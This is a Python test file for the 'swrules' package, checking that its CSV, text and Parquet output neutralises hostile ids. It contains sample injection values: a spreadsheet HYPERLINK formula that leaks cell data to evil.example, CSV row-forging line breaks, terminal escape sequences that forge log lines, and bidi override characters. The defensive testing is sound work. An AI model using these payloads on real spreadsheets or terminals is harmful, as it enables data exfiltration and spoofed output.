"""Output that hostile ids cannot abuse: spreadsheet formulas and split rows in CSV, forged lines and terminal
escapes in text, Parquet columns typed (exact decimals, dates, booleans) rather than strings."""

from __future__ import annotations

import csv
import io
import json
import tempfile
from contextlib import redirect_stderr
from datetime import date
from decimal import Decimal
from importlib import resources
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import swrules
from swrules import frames
from swrules._text import printable
from swrules.cli import main, summary
from swrules.errors import SwrulesError
from swrules.load import load_facts
from swrules.period import Period
from swrules.settlement import settle

EXAMPLE = resources.files("swrules") / "examples" / "dingnan-2020.json"
pd = pytest.importorskip("pandas")

#: Fact ids an attacker might choose, by the id they replace in the example.
HOSTILE = {
    "p01": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "p02": "+1+2",
    "p03": "@SUM(A1:A9)",
    "p04": "p04\r\nforged,row,of,cells",
    "p05": "p05\rcarriage-only",
    "p06": "\tTAB",
    "p07": "p07\x1b[31m\nswrules: FORGED LINE\x1b[0m",
    "p08": "\u202eevil\u2028next",
    "c-chengbei": "-600.00",
    "c-chengnan": "\rCR first",
}
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


def _rename(node: Any) -> Any:
    if isinstance(node, dict):
        return {k: _rename(v) for k, v in node.items()}
    if isinstance(node, list):
        return [_rename(v) for v in node]
    if isinstance(node, str):
        return HOSTILE.get(node, node)
    return node


def _hostile_file(tmp_path: Path) -> Path:
    doc = _rename(json.loads(EXAMPLE.read_text(encoding="utf-8")))
    path = tmp_path / "hostile.json"
    path.write_text(json.dumps(doc, ensure_ascii=False), encoding="utf-8")
    return path


def cli(*argv: str) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    with redirect_stderr(err):
        code = main(list(argv), out=out)
    return code, out.getvalue(), err.getvalue()


def _no_forgery(text: str) -> None:
    """Nothing a terminal acts on, and no line that an id started."""
    assert "\x1b" not in text and "\r" not in text and "\u202e" not in text and "\u2028" not in text
    for line in text.split("\n"):
        assert not line.startswith("swrules: FORGED") and not line.startswith("forged,row")


# --- CSV ------------------------------------------------------------------------------------


def _evaluate_csv(tmp_path: Path) -> dict[str, list[list[str]]]:
    code, _, err = cli(
        "evaluate",
        str(_hostile_file(tmp_path)),
        "--ruleset",
        "dingnan-2020",
        "--period",
        "2021",
        "--format",
        "csv",
        "--out",
        str(tmp_path / "tables"),
    )
    assert code == 0, err
    tables = {}
    for path in sorted((tmp_path / "tables").iterdir()):
        with open(path, encoding="utf-8", newline="") as fh:
            tables[path.stem] = list(csv.reader(fh))
    return tables


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(tmp_path: Path) -> None:
    tables = _evaluate_csv(tmp_path)
    cells = [cell for rows in tables.values() for row in rows for cell in row]
    assert all(not c.startswith(FORMULA_START) for c in cells if not _is_number(c)), [
        c for c in cells if c.startswith(FORMULA_START) and not _is_number(c)
    ]
    obligations = tables["obligations"]
    payees = {row[obligations[0].index("payee")] for row in obligations[1:]}
    assert "'" + HOSTILE["p01"] in payees and "'+1+2" in payees and "'@SUM(A1:A9)" in payees
    assert "'\tTAB" in cells
    findings = tables["findings"]
    subjects = {row[findings[0].index("subject")] for row in findings[1:]}
    assert "'-600.00" in subjects  # text that looks like a number is text: a community id
    assert "'\rCR first" in subjects


def _is_number(cell: str) -> bool:
    try:
        Decimal(cell)
    except ArithmeticError:
        return False
    return True


def test_csv_numbers_stay_numbers_signs_included(tmp_path: Path) -> None:
    frame = pd.DataFrame(
        {
            "payee": ["-600.00", "p1", None],
            "amount": [Decimal("-600.00"), Decimal("260.00"), None],
            "amount_fen": pd.array([-60000, 26000, None], dtype="Int64"),
            "eligible": pd.array([True, False, None], dtype="boolean"),
            "period_start": pd.to_datetime([date(2021, 1, 1), date(2021, 2, 1), None]),
        }
    )
    path = tmp_path / "t.csv"
    frames.write_csv(frame, path)
    assert path.read_bytes().decode("utf-8").split("\r\n") == [
        "payee,amount,amount_fen,eligible,period_start",
        "'-600.00,-600.00,-60000,true,2021-01-01",
        "p1,260.00,26000,false,2021-02-01",
        ",,,,",
        "",
    ]


def test_csv_ids_with_line_breaks_never_split_rows(tmp_path: Path) -> None:
    tables = _evaluate_csv(tmp_path)
    for name, rows in tables.items():
        width = len(rows[0])
        assert all(len(row) == width for row in rows), name
    cells = {cell for rows in tables.values() for row in rows for cell in row}
    assert HOSTILE["p04"] in cells and HOSTILE["p05"] in cells
    raw = (tmp_path / "tables" / "obligations.csv").read_bytes()
    assert b'"p05\rcarriage-only"' in raw  # a lone CR is quoted too


def test_csv_booleans_are_written_as_csv_input_writes_them(tmp_path: Path) -> None:
    tables = _evaluate_csv(tmp_path)
    eligibility = tables["eligibility"]
    column = eligibility[0].index("eligible")
    assert {row[column] for row in eligibility[1:]} == {"true", "false"}
    findings = tables["findings"]
    assert {row[findings[0].index("satisfied")] for row in findings[1:]} <= {"true", "false", ""}


@given(st.text(max_size=12))
def test_a_neutralised_csv_cell_gives_back_its_text(text: str) -> None:
    cell = frames.spreadsheet_safe(text)
    assert not cell.startswith(FORMULA_START)
    assert (cell[1:] if cell.startswith("'") and cell != text else cell) == text
    assert cell == text or cell == "'" + text


@settings(max_examples=60)
@given(
    st.lists(st.tuples(st.text(max_size=8), st.decimals(allow_nan=False, allow_infinity=False, places=2)), max_size=6)
)
def test_any_text_and_number_survive_a_csv_round_trip(rows: list[tuple[str, Decimal]]) -> None:
    frame = pd.DataFrame({"id": [r[0] for r in rows], "amount": [r[1] for r in rows]}, columns=["id", "amount"])
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "t.csv"
        frames.write_csv(frame, path)
        with open(path, encoding="utf-8", newline="") as fh:
            back = list(csv.reader(fh))
    assert back[0] == ["id", "amount"] and len(back) == len(rows) + 1
    for (text, amount), (cell, number) in zip(rows, back[1:], strict=True):
        assert cell == frames.spreadsheet_safe(text) and Decimal(number) == amount


# --- text output ----------------------------------------------------------------------------


@given(st.text())
def test_printable_text_has_no_control_characters_and_keeps_the_rest(text: str) -> None:
    shown = printable(text)
    assert not any(ord(c) < 0x20 or 0x7F <= ord(c) < 0xA0 for c in shown)
    assert "\u2028" not in shown and "\u202e" not in shown
    assert printable(shown) == shown
    plain = "".join(c for c in text if c.isprintable() and c not in "\u2028\u2029")
    assert printable(plain) == plain


def test_explain_text_escapes_ids(tmp_path: Path) -> None:
    path = _hostile_file(tmp_path)
    facts = load_facts(json.loads(path.read_text(encoding="utf-8")))
    result = swrules.evaluate(facts, ruleset="dingnan-2020", period="2021")
    key = next(o.id for o in result.obligations if o.payee == HOSTILE["p07"])
    code, out, err = cli("explain", str(path), "--ruleset", "dingnan-2020", "--period", "2021", "--item", key)
    assert code == 0, err
    _no_forgery(out)
    assert "\\x1b[31m\\nswrules: FORGED LINE" in out


def test_diff_text_escapes_ids(tmp_path: Path) -> None:
    code, out, err = cli(
        "diff",
        str(_hostile_file(tmp_path)),
        "--from",
        "dingnan-2020",
        "--to",
        "dingnan-2020",
        "--period",
        "2021",
        "--set",
        "allowance.assistant=300",
        "--set",
        "allowance.intermediate=300",
    )
    assert code == 0, err
    _no_forgery(out)
    assert "p07\\x1b[31m\\nswrules: FORGED" in out


def test_summary_and_settle_text_escape_ids(tmp_path: Path) -> None:
    path = _hostile_file(tmp_path)
    facts = load_facts(json.loads(path.read_text(encoding="utf-8")))
    result = swrules.evaluate(facts, ruleset="dingnan-2020", period="2021")
    _no_forgery(summary(result, facts))
    text = settle(facts, ruleset="dingnan-2020", through="2021-12", paid=[]).to_text()
    _no_forgery(text)
    assert "p07\\x1b[31m\\nswrules: FORGED" in text


def test_settle_command_text_escapes_ids(tmp_path: Path) -> None:
    ledger = tmp_path / "paid.csv"
    ledger.write_text("obligation,amount,paid_on\n", encoding="utf-8")
    code, out, err = cli(
        "settle",
        str(_hostile_file(tmp_path)),
        "--ruleset",
        "dingnan-2020",
        "--through",
        "2021-12",
        "--paid",
        str(ledger),
        "--format",
        "text",
    )
    assert code == 0, err
    _no_forgery(out)


def test_errors_on_stderr_are_one_line_each(tmp_path: Path) -> None:
    text = (resources.files("swrules._rulesets") / "dingnan-2020.toml").read_text(encoding="utf-8")
    path = tmp_path / "county.toml"
    path.write_text(
        text.replace('id = "dingnan-2020"', 'id = "dingnan-2020"\n"x\\u001b[31m\\nswrules: FORGED" = 1', 1),
        encoding="utf-8",
    )
    code, out, err = cli("evaluate", str(EXAMPLE), "--ruleset", str(path), "--period", "2021")
    assert code == 2 and out == ""
    _no_forgery(err)
    assert err.count("\n") == 1


# --- Parquet ---------------------------------------------------------------------------------


def _parquet(tmp_path: Path, *argv: str) -> dict[str, Any]:
    pq = pytest.importorskip("pyarrow.parquet")
    code, _, err = cli(
        "evaluate",
        *argv,
        "--period",
        "2021",
        "--format",
        "parquet",
        "--out",
        str(tmp_path / "tables"),
    )
    assert code == 0, err
    return {p.stem: pq.read_table(p) for p in (tmp_path / "tables").iterdir()}


def test_parquet_columns_are_typed_and_exact(tmp_path: Path) -> None:
    pa = pytest.importorskip("pyarrow")
    tables = _parquet(tmp_path, str(EXAMPLE), "--ruleset", "dingnan-2020")
    obligations = tables["obligations"]
    assert obligations.schema.field("amount").type == pa.decimal128(38, 2)
    assert obligations.schema.field("amount_fen").type == pa.int64()
    assert obligations.schema.field("period_start").type == pa.date32()
    assert obligations.schema.field("period_end").type == pa.date32()
    assert obligations.schema.field("payee").type == pa.string()
    result = swrules.evaluate(json.loads(EXAMPLE.read_text(encoding="utf-8")), ruleset="dingnan-2020", period="2021")
    assert obligations.column("amount").to_pylist() == [o.amount for o in result.obligations]
    assert obligations.column("period_start").to_pylist() == [Period.parse(o.period).start for o in result.obligations]
    findings = tables["findings"]
    assert pa.types.is_decimal(findings.schema.field("actual").type)
    assert pa.types.is_decimal(findings.schema.field("required").type)
    assert findings.schema.field("satisfied").type == pa.bool_()
    assert findings.schema.field("deadline").type == pa.date32()
    assert findings.column("actual").to_pylist() == [f.actual for f in result.findings]
    assert findings.column("required").to_pylist() == [f.required for f in result.findings]
    assert findings.column("satisfied").to_pylist() == [f.satisfied for f in result.findings]
    assert tables["eligibility"].schema.field("eligible").type == pa.bool_()
    assert tables["post_grades"].schema.field("level").type == pa.int64()


def test_parquet_deadlines_are_dates(tmp_path: Path) -> None:
    pytest.importorskip("pyarrow")
    example = resources.files("swrules") / "examples" / "xx-county-2023.json"
    code, _, err = cli(
        "evaluate",
        str(example),
        "--ruleset",
        "xx-county-2023",
        "--period",
        "2023",
        "--format",
        "parquet",
        "--out",
        str(tmp_path / "tables"),
    )
    assert code == 0, err
    pq = pytest.importorskip("pyarrow.parquet")
    deadlines = pq.read_table(tmp_path / "tables" / "findings.parquet").column("deadline").to_pylist()
    assert any(isinstance(d, date) for d in deadlines)


def test_a_parquet_value_that_does_not_fit_is_an_error_not_rounded(tmp_path: Path) -> None:
    pytest.importorskip("pyarrow")
    frame = pd.DataFrame({"amount": [Decimal("1.00"), Decimal("1.005")], "payee": ["a", "b"]})
    with pytest.raises(SwrulesError, match=r"amount.*row 1.*1\.005"):
        frames.write_parquet(frame, tmp_path / "t.parquet")
    assert not (tmp_path / "t.parquet").exists()
    frame = pd.DataFrame({"actual": [Decimal("1E+40"), Decimal(1)]})
    with pytest.raises(SwrulesError, match="actual"):
        frames.write_parquet(frame, tmp_path / "t.parquet")
